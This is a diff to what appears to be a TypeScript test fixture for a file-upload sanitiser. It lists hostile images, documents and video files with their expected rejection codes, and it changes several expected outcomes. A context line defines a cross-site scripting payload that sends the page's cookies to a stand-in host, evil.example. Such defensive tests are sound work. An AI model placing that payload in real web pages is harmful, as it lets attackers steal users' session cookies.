@@ -20,7 +20,6 @@ import { box, film, track, uint32 } from './sample-films.ts'
 /** After `ftyp` and the header of `mdat`. */
 const FILM_PICTURE_AT = 28
 const DAMAGED = { status: 422, cause: 'damaged_file' } as const
-const WRONG_TYPE = { status: 415, cause: 'wrong_type' } as const
 const SCRIPT = '<script>fetch("//evil.example/"+document.cookie)</script>'
 
 const evidence = (
@@ -187,9 +186,14 @@ export const HOSTILE_EVIDENCE: readonly HostileFile[] = [
       ]),
     { name: 'a.gif', mustVanish: ['alert(1)', '<script>'] },
   ),
-  evidence('TIFF as evidence', WRONG_TYPE, () => picture(64, 64).tiff().toBuffer(), {
-    name: 'scan.tiff',
-  }),
+  evidence(
+    'TIFF as evidence',
+    { status: 415, cause: 'tiff' },
+    () => picture(64, 64).tiff().toBuffer(),
+    {
+      name: 'scan.tiff',
+    },
+  ),
   evidence('a document with an embedded OLE object', 'no-copy', () =>
     docx([part('word/embeddings/oleObject1.bin', 'x')]),
   ),
@@ -227,8 +231,10 @@ export const HOSTILE_FILMS: readonly HostileFile[] = [
     film({ picture: Buffer.alloc(5_000) }).subarray(0, 4_000),
   ),
   evidence('a film without the end of its index', DAMAGED, () => film().subarray(0, -30)),
-  evidence('a film of an unknown brand', WRONG_TYPE, () => film({ brand: 'evil' })),
-  evidence('a HEIC file in the boxes of a film', WRONG_TYPE, () => film({ brand: 'heic' })),
+  evidence('a film of an unknown brand', 'disarmed', () => film({ brand: 'evil' }), {
+    mustVanish: [SECRET_PLACE],
+  }),
+  evidence('a HEIC file in the boxes of a film', DAMAGED, () => film({ brand: 'heic' })),
   evidence('a film with bytes after its boxes', DAMAGED, () =>
     film({ end: Buffer.from('<html>') }),
   ),
